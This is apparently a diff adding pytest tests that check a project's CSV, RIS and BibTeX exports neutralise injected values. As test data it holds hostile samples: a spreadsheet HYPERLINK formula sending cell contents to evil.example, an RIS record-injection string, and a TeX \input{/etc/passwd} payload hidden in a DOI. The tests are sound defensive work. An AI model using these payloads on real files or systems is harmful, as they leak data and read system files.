@@ -57,3 +57,49 @@ def test_cases_csv_parses_back_to_the_data(model):
         assert int(row["sources"]) == len(case.sources) >= 2
         assert int(row["primary_sources"]) >= 1
         assert row["source_urls"].split() == [s.url for s in case.sources if s.url]
+
+
+# --- hostile values in downloads ------------------------------------------------------------------------
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
+                                   "\tx", "\rx"])
+def test_a_formula_in_data_reaches_the_csv_as_text(title):
+    """A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return) as a formula."""
+    cell = exports.spreadsheet_cell(title)
+    assert cell == "'" + title
+    assert exports.spreadsheet_cell("Hack of the Bundestag (2015)") == "Hack of the Bundestag (2015)"
+
+
+def test_the_csv_neutralises_formulas_in_every_column():
+    from dataclasses import replace
+
+    checked = check_data(VALID, FIXTURE_TODAY)
+    case = checked.model.cases[0]
+    model = replace(checked.model, cases=(replace(case, title='=HYPERLINK("http://evil.example/","x")'),))
+    rows = list(csv.DictReader(io.StringIO(exports.cases_csv(model))))
+    assert rows[0]["title"] == "'=HYPERLINK(\"http://evil.example/\",\"x\")"
+
+
+@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"])
+def test_no_line_break_in_a_value_can_add_a_ris_record(brk):
+    import rispy
+
+    from companion import ris
+
+    item = {"id": "x", "type": "report", "title": f"Title{brk}ER  - {brk}{brk}TY  - JOUR{brk}TI  - Injected",
+            "issued": {"date-parts": [[2020]]}, "publisher": f"A{brk}B"}
+    text = ris.ris([item])
+    records = rispy.loads(text)
+    assert len(records) == 1
+    assert records[0]["title"] == "Title ER - TY - JOUR TI - Injected"
+
+
+def test_urls_and_dois_cannot_reach_tex_through_the_bib_file():
+    from companion import bibtex
+
+    entry = bibtex.entry({"id": "x", "type": "report", "title": "T", "issued": {"date-parts": [[2020]]},
+                          "DOI": "10.1080/x}{\\input{/etc/passwd}}", "URL": "https://example.org/a b{\\x}"})
+    fields = entry.fields_dict
+    for name in ("doi", "url"):
+        assert not set(fields[name].value) & set("{}\\ "), fields[name].value
+    assert fields["doi"].value == "10.1080/x%7D%7B%5Cinput%7B/etc/passwd%7D%7D"
